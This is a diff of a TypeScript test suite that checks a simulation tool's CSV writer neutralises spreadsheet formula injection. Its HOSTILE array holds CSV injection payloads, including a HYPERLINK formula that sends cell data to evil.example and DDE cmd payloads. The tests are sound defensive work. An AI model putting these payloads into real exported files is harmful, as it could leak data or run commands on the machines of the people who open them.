@@ -12,7 +12,7 @@ import { mmcText, read, tmp, writeSweep } from '../sweep/support.js';
 import { asJson, clusterScenario, run } from './report-fixtures.js';
 
 /** Cells a spreadsheet would run as formulas (OWASP CSV injection), one per trigger character. */
-const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+cmd|\' /C calc\'!A0', '-1+1', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
+const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", '-1+1', "@SUM(1+1)*cmd|' /C calc'!A0", '\t=1+1', '\r=1+1'];
 
 /** Parses CSV text with csv-parse (a real parser, not our own output read back by eye). */
 const rows = (text: string): string[][] => parse(text, { relax_column_count: false });
@@ -22,7 +22,12 @@ const safe = (cell: string): boolean => !/^[=+\-@\t\r]/.test(cell);
 
 describe('one CSV writer: quoting by csv-stringify, the formula guard in one place', () => {
   it('neutralises every hostile text cell with a leading apostrophe and keeps its text', () => {
-    const parsed = rows(csvTable(['name'], HOSTILE.map((h) => [h])));
+    const parsed = rows(
+      csvTable(
+        ['name'],
+        HOSTILE.map((h) => [h]),
+      ),
+    );
     expect(parsed.slice(1).map((r) => r[0])).toEqual(HOSTILE.map((h) => `'${h}`));
     expect(parsed.every((r) => r.every(safe))).toBe(true);
   });
@@ -62,20 +67,27 @@ describe('every CSV the product writes goes through the guard', () => {
 
   it('report --csv: results, KPIs, assumptions and chart tables', () => {
     const results = HOSTILE.slice(0, 2).map((name, i) => asJson(run({ ...clusterScenario(6 + 2 * i, { replications: 1, horizon: '2 days' }), name })));
-    const model = buildReport(results.map((result) => ({ result })), { command: 'simulate report a.json b.json' });
+    const model = buildReport(
+      results.map((result) => ({ result })),
+      { command: 'simulate report a.json b.json' },
+    );
     const files = reportCsvFiles(model, results);
     expect(files.length).toBeGreaterThan(3);
     for (const f of files) {
       const parsed = rows(f.content);
       expect(parsed.flat().filter((c) => !safe(c) && Number.isNaN(Number(c)))).toEqual([]);
     }
-    const labels = rows(files.find((f) => f.name === 'results.csv')!.content).slice(1).map((r) => r[1]);
+    const labels = rows(files.find((f) => f.name === 'results.csv')!.content)
+      .slice(1)
+      .map((r) => r[1]);
     expect(labels).toEqual(HOSTILE.slice(0, 2).map((h) => `'${h}`));
   });
 
   it('the sweep results CSV: parameter values and names from the sweep file', async () => {
     const dir = tmp('simulate-csv-');
-    const values = HOSTILE.slice(0, 4).map((h) => JSON.stringify(h)).join(', ');
+    const values = HOSTILE.slice(0, 4)
+      .map((h) => JSON.stringify(h))
+      .join(', ');
     const text = mmcText((t) => t.replace(/^parameters:[\s\S]*?^constraints:/m, `parameters:\n  description: [${values}]\nconstraints:`));
     const out = join(dir, 'out');
     await runSweep(loadSweep(writeSweep(dir, 'hostile.yaml', text), { replications: 1 }), { outDir: out, workers: 0 });
